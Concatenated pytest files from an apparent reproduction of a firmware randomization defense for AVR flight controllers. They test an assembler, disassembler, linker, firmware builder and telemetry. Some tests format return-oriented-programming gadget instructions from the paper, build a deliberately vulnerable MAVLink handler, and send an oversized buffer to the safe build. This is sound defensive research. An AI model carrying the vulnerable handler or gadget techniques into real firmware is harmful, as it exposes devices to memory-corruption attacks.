        st Y+3, r5
        std Y+1, r5
        ldd r6, Z+2
        st X, r7
    """)
    mnems = [insn.mnemonic for insn in func.instructions()]
    assert mnems == [
        Mnemonic.LD_X_INC, Mnemonic.LD_Y_DEC, Mnemonic.LDD_Z,
        Mnemonic.STD_Y, Mnemonic.STD_Y, Mnemonic.LDD_Z, Mnemonic.ST_X,
    ]
    assert func.instructions()[3].q == 3


def test_io_and_bit_ops():
    func = parse_one_function("""
        in r0, 0x3f
        out 0x3e, r29
        sbi 0x05, 0
        sbic 0x05, 1
        sei
        cli
    """)
    insns = func.instructions()
    assert insns[1].mnemonic is Mnemonic.OUT and insns[1].a == 0x3E and insns[1].rr == 29
    assert insns[4].mnemonic is Mnemonic.BSET and insns[4].b == 7
    assert insns[5].mnemonic is Mnemonic.BCLR


def test_lds_sts_with_symbol():
    func = parse_one_function("""
        lds r16, counter
        sts counter, r16
        sts 0x0400, r17
    """)
    insns = func.instructions()
    assert insns[0].k == SymbolRef("counter", RefKind.WORD)
    assert insns[2].k == 0x400


def test_func_attributes():
    func = parse_one_function("nop", attrs="saves=r10,r11,r28 inline")
    assert tuple(func.save_regs) == (10, 11, 28)
    assert func.force_inline_epilogue


def test_data_section():
    program = parse_program("""
.data
counter: .space 2
buffer:  .space 64 flash
table:   .funcptr f1, f2
msg:     .byte 0x41, 66
""")
    by_name = {d.name: d for d in program.data}
    assert by_name["counter"].segment == "sram"
    assert by_name["buffer"].segment == "flash"
    assert by_name["table"].kind is DataKind.FUNCPTR_TABLE
    assert by_name["table"].payload == ["f1", "f2"]
    assert by_name["msg"].payload == b"AB"


def test_entry_directive():
    program = parse_program(".entry start\n.text\n.func start\nnop\n.endfunc\n")
    assert program.entry == "start"


def test_comments_stripped():
    func = parse_one_function("nop ; trailing\n# whole line\nnop")
    assert len(func.instructions()) == 2


@pytest.mark.parametrize("source", [
    ".func f\nnop\n",                      # missing .endfunc
    ".text\nnop\n",                        # instruction outside .func
    ".text\n.func f\nbadinsn r1\n.endfunc\n",
    ".text\n.func f\nldi r40, 1\n.endfunc\n",
    ".text\n.func f\nldi r16\n.endfunc\n",  # missing operand
    ".data\njunk\n",
    ".text\n.func f\n.func g\n.endfunc\n.endfunc\n",  # nested
    ".weird\n",
])
def test_syntax_errors(source):
    with pytest.raises(AsmSyntaxError):
        parse_program(source)


def test_error_carries_line_number():
    try:
        parse_program(".text\n.func f\nnop\nbogus r1, r2\n.endfunc\n")
    except AsmSyntaxError as exc:
        assert exc.line == 4
    else:
        pytest.fail("expected AsmSyntaxError")
