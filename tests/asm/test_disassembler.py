"""Disassembler formatting tests (the paper's Fig. 4/5 listing style)."""

from repro.asm import disassemble, disassemble_image, format_instruction, link, parse_program
from repro.asm.linker import MAVR_OPTIONS
from repro.avr import Instruction, Mnemonic, encode_stream

I = Instruction
M = Mnemonic


def test_format_gadget_instructions():
    """The exact instructions from the paper's stk_move/write_mem gadgets."""
    assert format_instruction(I(M.OUT, a=0x3E, rr=29)) == "out 0x3e, r29"
    assert format_instruction(I(M.OUT, a=0x3D, rr=28)) == "out 0x3d, r28"
    assert format_instruction(I(M.POP, rd=28)) == "pop r28"
    assert format_instruction(I(M.RET)) == "ret"
    assert format_instruction(I(M.STD_Y, rr=5, q=1)) == "std Y+1, r5"
    assert format_instruction(I(M.STD_Y, rr=6, q=2)) == "std Y+2, r6"


def test_format_various():
    assert format_instruction(I(M.LDI, rd=22, k=1)) == "ldi r22, 0x01"
    assert format_instruction(I(M.JMP, k=0x5DE // 2)) == "jmp 0x5de"
    assert format_instruction(I(M.CALL, k=0x100)) == "call 0x200"
    assert format_instruction(I(M.LDS, rd=16, k=0x400)) == "lds r16, 0x0400"
    assert format_instruction(I(M.STS, rr=16, k=0x400)) == "sts 0x0400, r16"
    assert format_instruction(I(M.LD_X_INC, rd=3)) == "ld r3, X+"
    assert format_instruction(I(M.ST_Y_DEC, rr=4)) == "st -Y, r4"
    assert format_instruction(I(M.BSET, b=7)) == "sei"
    assert format_instruction(I(M.BCLR, b=7)) == "cli"
    assert format_instruction(I(M.MOVW, rd=28, rr=30)) == "movw r28, r30"
    assert format_instruction(I(M.ADIW, rd=24, k=1)) == "adiw r24, 0x01"
    assert format_instruction(I(M.IN, rd=0, a=0x3F)) == "in r0, 0x3f"
    assert format_instruction(I(M.SBIW, rd=28, k=2)) == "sbiw r28, 0x02"
    assert format_instruction(I(M.LPM_R0)) == "lpm"
    assert format_instruction(I(M.LPM_INC, rd=5)) == "lpm r5, Z+"


def test_relative_targets_resolved_with_pc():
    # rcall .+912 at byte address 0x1c8 (paper Fig. 9 example shape)
    text = format_instruction(I(M.RCALL, k=456), pc_bytes=0x1C8)
    assert text == f"rcall 0x{0x1C8 + 2 + 912:x}"
    text = format_instruction(I(M.BRBC, b=1, k=-3), pc_bytes=0x10)
    assert text.startswith("brne 0x")


def test_disassemble_stream():
    code = encode_stream([
        I(M.LDI, rd=22, k=1),
        I(M.CALL, k=0x2EF),
        I(M.RET),
    ])
    lines = disassemble(code)
    assert len(lines) == 3
    assert "ldi r22, 0x01" in lines[0]
    assert "call" in lines[1]
    assert "ret" in lines[2]


def test_disassemble_skips_garbage():
    code = b"\xff\xff" + encode_stream([I(M.NOP)])
    lines = disassemble(code)
    assert len(lines) == 1


def test_disassemble_image_with_symbols():
    source = """
.text
.func main inline
    ldi r24, 0x01
    break
.endfunc
"""
    image = link(parse_program(source), MAVR_OPTIONS)
    listing = disassemble_image(image)
    assert "<main>:" in listing
    assert "ldi r24, 0x01" in listing
    single = disassemble_image(image, "main")
    assert "<main>:" in single
