"""Parser alias forms and the multiply mnemonics."""

import pytest

from repro.asm import parse_program
from repro.avr import AvrCpu, Mnemonic
from repro.asm import link
from repro.asm.linker import MAVR_OPTIONS
from repro.errors import AsmSyntaxError


def parse_body(body):
    return parse_program(f".text\n.func f\n{body}\n.endfunc\n").function("f")


def test_clr_tst_lsl_rol_ser():
    func = parse_body("""
        clr r1
        tst r24
        lsl r24
        rol r25
        ser r30
    """)
    insns = func.instructions()
    assert insns[0].mnemonic is Mnemonic.EOR and insns[0].rd == insns[0].rr == 1
    assert insns[1].mnemonic is Mnemonic.AND and insns[1].rd == insns[1].rr == 24
    assert insns[2].mnemonic is Mnemonic.ADD
    assert insns[3].mnemonic is Mnemonic.ADC
    assert insns[4].mnemonic is Mnemonic.LDI and insns[4].k == 0xFF


def test_mul_family_parse():
    func = parse_body("""
        mul r24, r18
        muls r20, r21
        mulsu r17, r19
    """)
    mnems = [insn.mnemonic for insn in func.instructions()]
    assert mnems == [Mnemonic.MUL, Mnemonic.MULS, Mnemonic.MULSU]


def test_alias_semantics_through_cpu():
    """lsl/rol implement a 16-bit left shift."""
    image = link(parse_program("""
.text
.func main inline
    ldi r24, 0x81
    ldi r25, 0x01
    lsl r24
    rol r25
    sts 0x0400, r24
    sts 0x0401, r25
    break
.endfunc
"""), MAVR_OPTIONS)
    cpu = AvrCpu()
    cpu.load_program(image.code)
    cpu.reset()
    cpu.run(100)
    value = cpu.data.read(0x400) | (cpu.data.read(0x401) << 8)
    assert value == (0x0181 << 1) & 0xFFFF


def test_alias_operand_counts():
    with pytest.raises(AsmSyntaxError):
        parse_body("clr r1, r2")
    with pytest.raises(AsmSyntaxError):
        parse_body("ser")
