"""Linker tests: layout, relaxation, call prologues, and behavioural
equivalence between toolchain configurations."""

import pytest

from repro.asm import (
    EPILOGUE_NAME,
    MAVR_OPTIONS,
    PROLOGUE_NAME,
    STOCK_OPTIONS,
    AsmInsn,
    DataDef,
    DataKind,
    FunctionDef,
    LinkOptions,
    Program,
    SymbolRef,
    link,
    parse_program,
)
from repro.avr import AvrCpu, Mnemonic, decode_at
from repro.avr.memory import SRAM_BASE
from repro.binfmt.symtab import DATA_SPACE_FLAG
from repro.errors import LinkError

SOURCE = """
.text
.func worker saves=r10,r11,r12,r13,r28,r29
    ldi r24, 0x0A
    sts 0x0400, r24
.endfunc

.func tiny
    ldi r25, 0x01
.endfunc

.func main inline
    call worker
    call tiny
    break
.endfunc

.data
counter: .space 2
table: .funcptr worker, tiny
"""


def build(options):
    return link(parse_program(SOURCE), options)


def run_to_halt(image, max_instructions=100_000):
    cpu = AvrCpu()
    cpu.load_program(image.code)
    cpu.reset()
    cpu.run(max_instructions)
    assert cpu.halted, "program did not reach break"
    return cpu


def test_stock_build_contains_shared_blocks():
    image = build(STOCK_OPTIONS)
    names = [s.name for s in image.functions()]
    assert PROLOGUE_NAME in names
    assert EPILOGUE_NAME in names


def test_mavr_build_has_no_shared_blocks():
    image = build(MAVR_OPTIONS)
    names = [s.name for s in image.functions()]
    assert PROLOGUE_NAME not in names
    assert EPILOGUE_NAME not in names


def test_both_toolchains_behave_identically():
    for options in (STOCK_OPTIONS, MAVR_OPTIONS):
        cpu = run_to_halt(build(options))
        assert cpu.data.read(0x400) == 0x0A
        assert cpu.data.read_reg(25) == 0x01


def test_function_tiling_valid():
    for options in (STOCK_OPTIONS, MAVR_OPTIONS):
        image = build(options)
        image.validate()  # raises on tiling/pointer problems


def test_alignment_padding():
    image = build(STOCK_OPTIONS)
    for sym in image.functions():
        assert sym.address % 4 == 0
        assert sym.size % 4 == 0
    image2 = build(MAVR_OPTIONS)
    for sym in image2.functions():
        assert sym.address % 2 == 0


def test_relaxation_shrinks_calls():
    relaxed = link(parse_program(SOURCE), LinkOptions(relax=True, call_prologues=False, align_functions=2))
    unrelaxed = link(parse_program(SOURCE), MAVR_OPTIONS)
    assert relaxed.text_end - relaxed.text_start < unrelaxed.text_end - unrelaxed.text_start
    # relaxed main should contain rcall instead of call
    main = relaxed.symbols.get("main")
    mnemonics = []
    offset = main.address
    while offset < main.end:
        insn, size = decode_at(relaxed.code, offset)
        mnemonics.append(insn.mnemonic)
        offset += size
    assert Mnemonic.RCALL in mnemonics
    assert Mnemonic.CALL not in mnemonics


def test_no_relax_uses_long_calls_only():
    image = build(MAVR_OPTIONS)
    main = image.symbols.get("main")
    offset = main.address
    mnemonics = []
    while offset < main.end:
        insn, size = decode_at(image.code, offset)
        mnemonics.append(insn.mnemonic)
        offset += size
    assert Mnemonic.CALL in mnemonics
    assert Mnemonic.RCALL not in mnemonics


def test_sram_allocation_and_symbols():
    image = build(MAVR_OPTIONS)
    counter = image.symbols.get("counter")
    assert counter.address == DATA_SPACE_FLAG + SRAM_BASE
    assert counter.size == 2


def test_funcptr_table_routes_through_trampolines():
    """Table slots hold low trampoline addresses; each stub jmps to its
    function (the >128 KB-safe pointer scheme)."""
    image = build(MAVR_OPTIONS)
    assert len(image.funcptr_locations) == 2
    worker = image.symbols.get("worker")
    stub_word = image.read_funcptr(image.funcptr_locations[0])
    fixed_end = min(image.text_start, image.data_start)
    assert stub_word * 2 < fixed_end  # stub lives in the fixed region
    insn, _size = decode_at(image.code, stub_word * 2)
    assert insn.mnemonic is Mnemonic.JMP
    assert insn.k == worker.word_address


def test_entry_jump_in_fixed_region():
    image = build(MAVR_OPTIONS)
    # __init ends with jmp main somewhere in the fixed region (followed by
    # the trampoline stubs)
    fixed_end = min(image.text_start, image.data_start)
    main_word = image.symbols.get("main").word_address
    offset = 0
    found = False
    while offset + 1 < fixed_end:
        insn, size = decode_at(image.code, offset)
        if insn.mnemonic is Mnemonic.JMP and insn.k == main_word:
            found = True
            break
        offset += size
    assert found


def test_data_section_below_text():
    """Flash constants are placed low so 16-bit lpm pointers reach them
    even on a 256 KB part."""
    image = build(MAVR_OPTIONS)
    assert image.data_start < image.text_start
    assert image.data_end <= image.text_start
    for location in image.funcptr_locations:
        assert location < 0x10000  # reachable through Z


def test_undefined_symbol_raises():
    program = Program()
    program.add_function(FunctionDef("main", [AsmInsn(Mnemonic.CALL, k=SymbolRef("ghost"))]))
    with pytest.raises(LinkError):
        link(program, MAVR_OPTIONS)


def test_empty_program_raises():
    with pytest.raises(LinkError):
        link(Program(), MAVR_OPTIONS)


def test_duplicate_function_rejected():
    program = Program()
    program.add_function(FunctionDef("main", [AsmInsn(Mnemonic.NOP)]))
    with pytest.raises(Exception):
        program.add_function(FunctionDef("main", [AsmInsn(Mnemonic.NOP)]))


def test_local_jmp_switch_trampoline():
    """A long jmp to a local label: the switch-trampoline pattern."""
    source = """
.text
.func main inline
    ldi r24, 1
    jmp case1
case0:
    ldi r25, 0x10
    break
case1:
    ldi r25, 0x20
    break
.endfunc
"""
    image = link(parse_program(source), MAVR_OPTIONS)
    cpu = run_to_halt(image)
    assert cpu.data.read_reg(25) == 0x20


def test_prologue_epilogue_preserve_registers():
    """Callee-saved registers survive a call through the shared blocks."""
    source = """
.text
.func clobber saves=r10,r11,r12,r13,r14,r15,r16,r17,r28,r29
    ldi r28, 0xDE
    ldi r29, 0xAD
    ldi r16, 0x99
.endfunc

.func main inline
    ldi r28, 0x11
    ldi r29, 0x22
    ldi r16, 0x33
    call clobber
    break
.endfunc
"""
    program = parse_program(source)
    image = link(program, STOCK_OPTIONS)
    cpu = run_to_halt(image)
    assert cpu.data.read_reg(28) == 0x11
    assert cpu.data.read_reg(29) == 0x22
    assert cpu.data.read_reg(16) == 0x33


def test_inline_saves_preserve_registers():
    source = """
.text
.func clobber saves=r10,r28
    ldi r28, 0xDE
    mov r10, r28
.endfunc

.func main inline
    ldi r28, 0x11
    mov r10, r28
    call clobber
    break
.endfunc
"""
    image = link(parse_program(source), MAVR_OPTIONS)
    cpu = run_to_halt(image)
    assert cpu.data.read_reg(28) == 0x11
    assert cpu.data.read_reg(10) == 0x11


def test_toolchain_tags():
    assert build(STOCK_OPTIONS).toolchain_tag == "relax+mcall-prologues"
    assert build(MAVR_OPTIONS).toolchain_tag == "no-relax+mno-call-prologues"
