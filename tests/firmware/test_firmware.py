"""Firmware generation: manifests, app structure, toolchain behaviour."""

import pytest

from repro.asm.linker import MAVR_OPTIONS, STOCK_OPTIONS
from repro.avr import AvrCpu, FeedLine, Usart
from repro.binfmt import scan_precision_recall
from repro.errors import LinkError
from repro.firmware import (
    CORE_FUNCTION_NAMES,
    TESTAPP,
    AppManifest,
    build_app,
    build_program,
    manifest_by_name,
)
from repro.firmware.hwmap import RX_BUFFER_SIZE, SRAM_VARIABLES, TELEMETRY_MARKER
from repro.firmware.toolchain import MAVR_TOOLCHAIN, STOCK_TOOLCHAIN


def test_testapp_function_count(testapp):
    assert testapp.function_count() == TESTAPP.function_count


def test_testapp_stock_size_calibrated(testapp_stock):
    assert testapp_stock.size == TESTAPP.stock_code_size


def test_core_functions_present(testapp):
    for name in CORE_FUNCTION_NAMES:
        assert name in testapp.symbols, name


def test_task_table_pointers(testapp):
    from repro.avr import Mnemonic, decode_at

    assert len(testapp.funcptr_locations) == TESTAPP.task_count
    fixed_end = min(testapp.text_start, testapp.data_start)
    for location in testapp.funcptr_locations:
        stub = testapp.read_funcptr(location) * 2
        assert stub < fixed_end  # trampoline in the fixed region
        insn, _size = decode_at(testapp.code, stub)
        assert insn.mnemonic is Mnemonic.JMP
        containing = testapp.symbols.function_containing(insn.k * 2)
        assert containing is not None
        assert containing.address == insn.k * 2  # entry, not interior


def test_pointer_scan_full_recall(testapp):
    stats = scan_precision_recall(testapp)
    assert stats["recall"] == 1.0


def test_image_validates(testapp, testapp_stock):
    testapp.validate()
    testapp_stock.validate()


def test_manifest_lookup():
    assert manifest_by_name("testapp") is TESTAPP
    assert manifest_by_name("arduplane").function_count == 917
    with pytest.raises(KeyError):
        manifest_by_name("nonesuch")


def test_paper_manifest_rows():
    assert manifest_by_name("arducopter").function_count == 1030
    assert manifest_by_name("ardurover").function_count == 800
    assert manifest_by_name("arduplane").stock_code_size == 221_608


def test_function_count_too_small_rejected():
    bad = AppManifest(name="tiny", function_count=5, stock_code_size=8192, seed=1)
    with pytest.raises(LinkError):
        build_program(bad)


def test_build_deterministic():
    a = build_app(TESTAPP, MAVR_OPTIONS)
    b = build_app(TESTAPP, MAVR_OPTIONS)
    assert a is b  # cached
    program = build_program(TESTAPP)
    names = [f.name for f in program.functions]
    program2 = build_program(TESTAPP)
    assert names == [f.name for f in program2.functions]


def test_vulnerable_flag_changes_handler(testapp, testapp_safe):
    handler_a = testapp.function_bytes(testapp.symbols.get("mavlink_handle_rx"))
    handler_b = testapp_safe.function_bytes(testapp_safe.symbols.get("mavlink_handle_rx"))
    assert handler_a != handler_b


def run_firmware(image, ticks=15, rx=b""):
    cpu = AvrCpu()
    usart = Usart(cpu)
    feed = FeedLine(cpu)
    cpu.load_program(image.code)
    cpu.reset()
    if rx:
        usart.feed_bytes(rx)
    cpu.run(ticks * 4000)
    return cpu, usart, feed


def test_firmware_runs_and_feeds(testapp):
    cpu, usart, feed = run_firmware(testapp)
    assert len(feed.events) > 5
    assert len(feed.boot_pulses) == 1
    tx = usart.take_tx()
    assert TELEMETRY_MARKER in tx


def test_firmware_loop_counter_advances(testapp):
    cpu, _usart, _feed = run_firmware(testapp)
    counter_addr = testapp.symbols.get("loop_counter").address - 0x800000
    assert cpu.data.read(counter_addr) > 0


def test_safe_handler_bounds_copy(testapp_safe):
    """Oversized burst must not reach the return address in the safe build."""
    oversized = bytes([0xAA]) * (RX_BUFFER_SIZE + 64)
    cpu, _usart, _feed = run_firmware(testapp_safe, ticks=20, rx=oversized)
    assert not cpu.halted  # still running normally


def test_sram_variables_allocated(testapp):
    for name in SRAM_VARIABLES:
        symbol = testapp.symbols.get(name)
        assert symbol.address >= 0x800000


def test_toolchain_randomizable_flags():
    assert MAVR_TOOLCHAIN.randomizable
    assert not STOCK_TOOLCHAIN.randomizable


def test_stock_build_has_more_functions(testapp, testapp_stock):
    """Shared prologue/epilogue blocks appear as two extra symbols."""
    assert testapp_stock.function_count() == testapp.function_count() + 2
