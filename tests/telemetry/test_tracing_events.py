"""Span tracing and the structured event log."""

import json

from repro.telemetry import EventLog, Telemetry, Tracer, jsonable


class FakeClock:
    def __init__(self):
        self.now_ms = 0.0


class TestTracer:
    def test_nesting_parent_child(self):
        tracer = Tracer()
        with tracer.span("outer") as outer:
            with tracer.span("inner") as inner:
                assert inner.parent_id == outer.span_id
                assert inner.depth == 1
        assert [s.name for s in tracer.finished()] == ["inner", "outer"]
        assert tracer.children_of(outer) == [inner]

    def test_tree_forest(self):
        tracer = Tracer()
        with tracer.span("boot"):
            with tracer.span("randomize"):
                pass
            with tracer.span("reflash"):
                pass
        with tracer.span("run"):
            pass
        roots = tracer.tree()
        assert [r["name"] for r in roots] == ["boot", "run"]
        assert [c["name"] for c in roots[0]["children"]] == [
            "randomize", "reflash",
        ]

    def test_dual_clocks(self):
        clock = FakeClock()
        tracer = Tracer()
        tracer.bind_clock(lambda: clock.now_ms)
        with tracer.span("isp.program") as span:
            clock.now_ms += 250.0
        assert span.duration_sim_ms == 250.0
        assert span.duration_host_ms >= 0.0

    def test_span_events_mirrored(self):
        log = EventLog()
        tracer = Tracer(event_log=log)
        with tracer.span("mavr.boot", app="testapp") as span:
            span.attrs["randomized"] = True
        assert log.names() == ["span.start", "span.end"]
        end = log.events("span.end")[0]
        assert end["span"] == "mavr.boot"
        assert end["randomized"] is True  # attrs set mid-span are captured

    def test_exception_still_closes_span(self):
        tracer = Tracer()
        try:
            with tracer.span("boom"):
                raise ValueError("x")
        except ValueError:
            pass
        assert tracer.active is None
        assert tracer.finished("boom")[0].end_host is not None


class TestEventLog:
    def test_seq_and_order(self):
        log = EventLog()
        log.emit("a")
        log.emit("b", n=1)
        assert log.names() == ["a", "b"]
        assert [e["seq"] for e in log.events()] == [1, 2]

    def test_ring_buffer_keeps_last(self):
        log = EventLog(max_entries=3)
        for index in range(10):
            log.emit("tick", n=index)
        assert len(log) == 3
        assert [e["n"] for e in log.events()] == [7, 8, 9]
        assert log.events()[-1]["seq"] == 10  # seq survives eviction

    def test_clock_stamps_t_ms(self):
        clock = FakeClock()
        log = EventLog()
        assert log.emit("before")["t_ms"] is None
        log.bind_clock(lambda: clock.now_ms)
        clock.now_ms = 12.5
        assert log.emit("after")["t_ms"] == 12.5

    def test_jsonl_sink(self, tmp_path):
        path = tmp_path / "events.jsonl"
        log = EventLog()
        log.open_jsonl(path)
        log.emit("flash.page_reflashed", page=3, data=b"\x01\x02")
        log.close()
        lines = path.read_text().strip().splitlines()
        assert len(lines) == 1
        record = json.loads(lines[0])
        assert record["event"] == "flash.page_reflashed"
        assert record["page"] == 3
        assert record["data"] == "0102"  # bytes serialized as hex

    def test_filter_by_name(self):
        log = EventLog()
        log.emit("a")
        log.emit("b")
        log.emit("a")
        assert len(log.events("a")) == 2


class TestJsonable:
    def test_edge_cases(self):
        import enum
        import math
        from dataclasses import dataclass

        class Color(enum.Enum):
            RED = "red"

        @dataclass
        class Point:
            x: int
            raw: bytes

        assert jsonable(Color.RED) == "red"
        assert jsonable(Point(1, b"\xff")) == {"x": 1, "raw": "ff"}
        assert jsonable(math.inf) is None
        assert jsonable(math.nan) is None
        assert jsonable({1: (2, 3)}) == {"1": [2, 3]}
        assert jsonable({"s": {4}}) == {"s": [4]}


class TestTelemetryFacade:
    def test_disabled_is_inert(self):
        tel = Telemetry()
        assert tel.emit("x") is None
        with tel.span("y") as span:
            assert span is None
        assert len(tel.events) == 0
        assert tel.tracer.finished() == []

    def test_disabled_metrics_still_live(self):
        """The monotonic contract holds even with telemetry off."""
        tel = Telemetry()
        tel.counter("boots").inc()
        assert tel.registry.value("boots") == 1

    def test_enabled_snapshot_shape(self):
        tel = Telemetry(enabled=True)
        tel.counter("boots").inc()
        with tel.span("mavr.boot"):
            tel.emit("attack.detected", cause="crash")
        snapshot = tel.snapshot()
        assert snapshot["schema"] == 1
        assert snapshot["enabled"] is True
        assert {m["name"] for m in snapshot["metrics"]} == {"boots"}
        assert [s["name"] for s in snapshot["spans"]] == ["mavr.boot"]
        assert snapshot["span_tree"][0]["name"] == "mavr.boot"
        assert "attack.detected" in [e["event"] for e in snapshot["events"]]
        json.dumps(snapshot)  # fully serializable

    def test_bind_clock_accepts_simclock_like(self):
        tel = Telemetry(enabled=True)
        tel.bind_clock(FakeClock())
        assert tel.emit("x")["t_ms"] == 0.0

    def test_write_snapshot(self, tmp_path):
        path = tmp_path / "snap.json"
        tel = Telemetry(enabled=True)
        tel.emit("x")
        tel.write_snapshot(path)
        assert json.loads(path.read_text())["enabled"] is True

    def test_collect_object(self):
        class Stats:
            frames_ok = 7

        tel = Telemetry()
        tel.collect_object("mavlink.parser", Stats(), ("frames_ok",),
                           component="mavlink")
        tel.registry.collect()  # samplers run at snapshot/collect time
        assert tel.registry.value(
            "mavlink.parser.frames_ok", component="mavlink"
        ) == 7
