"""Telemetry.merge: folding per-worker snapshots into one."""

import pytest

from repro.errors import TelemetryError
from repro.telemetry import Telemetry


def make_snapshot(counter=0, gauge=None, hist=(), events=(), clock=None):
    tel = Telemetry(enabled=True)
    if clock is not None:
        tel.bind_clock(clock)
    if counter:
        tel.counter("boots").inc(counter)
    if gauge is not None:
        tel.gauge("altitude").set(gauge)
    for value in hist:
        tel.histogram("latency", buckets=(1.0, 10.0, 100.0)).observe(value)
    for name in events:
        tel.emit(name)
    return tel.snapshot()


def find(snapshot, name):
    return next(m for m in snapshot["metrics"] if m["name"] == name)


def test_counters_sum():
    merged = Telemetry.merge([make_snapshot(counter=3), make_snapshot(counter=4)])
    assert find(merged, "boots")["value"] == 7


def test_gauges_last_write_wins():
    merged = Telemetry.merge([make_snapshot(gauge=120.0), make_snapshot(gauge=80.0)])
    assert find(merged, "altitude")["value"] == 80.0


def test_histograms_merge_buckets_and_stats():
    merged = Telemetry.merge([
        make_snapshot(hist=[0.5, 5.0]),
        make_snapshot(hist=[50.0, 500.0]),
    ])
    hist = find(merged, "latency")
    assert hist["count"] == 4
    assert hist["sum"] == pytest.approx(555.5)
    assert hist["min"] == 0.5
    assert hist["max"] == 500.0
    assert hist["buckets"] == {"1.0": 1, "10.0": 1, "100.0": 1, "+inf": 1}
    # percentiles re-estimated from the merged distribution
    assert hist["p50"] is not None
    assert hist["p99"] <= 500.0


def test_histogram_matches_single_instance_observing_everything():
    """Merging two halves equals one instrument that saw all observations."""
    merged = Telemetry.merge([
        make_snapshot(hist=[0.5, 5.0]),
        make_snapshot(hist=[50.0, 500.0]),
    ])
    whole = make_snapshot(hist=[0.5, 5.0, 50.0, 500.0])
    for key in ("count", "sum", "min", "max", "mean", "p50", "p90", "p99",
                "buckets"):
        assert find(merged, "latency")[key] == find(whole, "latency")[key]


def test_histogram_bucket_mismatch_raises():
    uneven = make_snapshot(hist=[1.0])
    other = Telemetry(enabled=True)
    other.histogram("latency", buckets=(2.0, 4.0)).observe(1.0)
    with pytest.raises(TelemetryError):
        Telemetry.merge([uneven, other.snapshot()])


def test_negative_counter_refused():
    bad = make_snapshot(counter=1)
    for metric in bad["metrics"]:
        metric["value"] = -5
    with pytest.raises(TelemetryError):
        Telemetry.merge([bad, make_snapshot(counter=1)])


def test_events_resorted_by_sim_time():
    late = make_snapshot(events=["b"], clock=lambda: 200.0)
    early = make_snapshot(events=["a"], clock=lambda: 100.0)
    merged = Telemetry.merge([late, early])
    assert [e["event"] for e in merged["events"]] == ["a", "b"]
    assert [e["t_ms"] for e in merged["events"]] == [100.0, 200.0]
    # each event remembers which snapshot it came from
    assert [e["source"] for e in merged["events"]] == [1, 0]


def test_event_order_total_for_equal_times():
    first = make_snapshot(events=["a1", "a2"], clock=lambda: 50.0)
    second = make_snapshot(events=["b1"], clock=lambda: 50.0)
    merged = Telemetry.merge([first, second])
    assert [e["event"] for e in merged["events"]] == ["a1", "a2", "b1"]


def test_schema_mismatch_and_empty_input_raise():
    snapshot = make_snapshot(counter=1)
    with pytest.raises(TelemetryError):
        Telemetry.merge([])
    snapshot["schema"] = 99
    with pytest.raises(TelemetryError):
        Telemetry.merge([snapshot])


def test_merge_preserves_schema_and_counts_sources():
    merged = Telemetry.merge([make_snapshot(counter=1), make_snapshot(counter=1)])
    assert merged["schema"] == 1
    assert merged["enabled"] is True
    assert merged["sources"] == 2
