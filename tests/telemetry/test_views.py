"""Stats views: dataclass-shaped fields backed by registry instruments."""

import pytest

from repro.core.master import MasterStats
from repro.errors import TelemetryError
from repro.hw.isp import ProgrammingStats
from repro.telemetry import CounterField, GaugeField, StatsView, Telemetry


class _DemoStats(StatsView):
    component = "demo"

    hits = CounterField("demo.hits")
    level = GaugeField("demo.level", initial=None)


class TestStatsView:
    def test_fields_read_write(self):
        stats = _DemoStats()
        assert stats.hits == 0
        assert stats.level is None
        stats.hits += 3
        stats.level = 9
        assert stats.hits == 3
        assert stats.level == 9

    def test_counter_field_rejects_decrement(self):
        stats = _DemoStats()
        stats.hits = 5
        with pytest.raises(TelemetryError):
            stats.hits -= 1
        with pytest.raises(TelemetryError):
            stats.hits = 0
        assert stats.hits == 5

    def test_gauge_field_moves_freely(self):
        stats = _DemoStats()
        stats.level = 10
        stats.level = 3  # gauges may go backwards
        assert stats.level == 3

    def test_instruments_published_with_component_label(self):
        tel = Telemetry()
        stats = _DemoStats(tel)
        stats.hits += 1
        assert tel.registry.value("demo.hits", component="demo") == 1

    def test_two_views_do_not_share_counters(self):
        tel = Telemetry()
        a = _DemoStats(tel)
        b = _DemoStats(tel)
        a.hits = 5
        b.hits = 2  # would raise if the monotonic counter were shared
        assert (a.hits, b.hits) == (5, 2)

    def test_as_dict_and_repr(self):
        stats = _DemoStats()
        stats.hits += 2
        assert stats.as_dict() == {"hits": 2, "level": None}
        assert repr(stats) == "_DemoStats(hits=2, level=None)"


class TestRealViews:
    """The converted MasterStats / ProgrammingStats keep their contract."""

    def test_master_stats_fields(self):
        stats = MasterStats()
        assert stats.boots == 0
        assert stats.flash_cycles_remaining is None  # unset until first boot
        stats.boots += 1
        stats.attacks_detected += 1
        stats.last_startup_overhead_ms = 123.4
        assert (stats.boots, stats.attacks_detected) == (1, 1)
        with pytest.raises(TelemetryError):
            stats.boots = 0  # monotonic-checked

    def test_master_stats_keeps_python_list_field(self):
        stats = MasterStats()
        stats.startup_overheads_ms.append(5.0)
        assert stats.startup_overheads_ms == [5.0]

    def test_programming_stats_monotonic(self):
        stats = ProgrammingStats()
        stats.pages_written += 4
        stats.bytes_on_wire += 1024
        with pytest.raises(TelemetryError):
            stats.pages_written -= 1
        # last_* fields are gauges: per-pass values may shrink
        stats.last_pages_written = 4
        stats.last_pages_written = 1
        assert stats.last_pages_written == 1
