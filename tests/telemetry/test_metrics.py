"""Metrics registry: monotonic counters, gauges, histograms, collectors."""

import pytest

from repro.errors import TelemetryError
from repro.telemetry import Counter, Gauge, Histogram, MetricsRegistry


class TestCounter:
    def test_inc_accumulates(self):
        registry = MetricsRegistry()
        counter = registry.counter("boots", component="master")
        counter.inc()
        counter.inc(4)
        assert counter.value == 5

    def test_negative_inc_rejected(self):
        counter = MetricsRegistry().counter("boots")
        with pytest.raises(TelemetryError):
            counter.inc(-1)

    def test_set_backwards_rejected(self):
        """The monotonic contract: a silent stats reset must be loud."""
        counter = MetricsRegistry().counter("pages_written")
        counter.set(10)
        with pytest.raises(TelemetryError, match="cannot decrease"):
            counter.set(3)
        assert counter.value == 10  # rejected write left no trace

    def test_set_forwards_ok(self):
        counter = MetricsRegistry().counter("cycles")
        counter.set(7)
        counter.set(7)  # equal is fine (idempotent republish)
        counter.set(9)
        assert counter.value == 9


class TestGauge:
    def test_moves_both_directions(self):
        gauge = MetricsRegistry().gauge("flash_cycles_remaining")
        gauge.set(10_000)
        gauge.dec(3)
        gauge.inc(1)
        assert gauge.value == 9_998

    def test_initial_none_supported(self):
        registry = MetricsRegistry()
        gauge = registry.own_gauge("remaining", initial=None)
        assert gauge.value is None
        gauge.set(5)
        assert gauge.value == 5


class TestHistogram:
    def test_count_sum_min_max(self):
        hist = MetricsRegistry().histogram("ms")
        for value in (1.0, 2.0, 100.0):
            hist.observe(value)
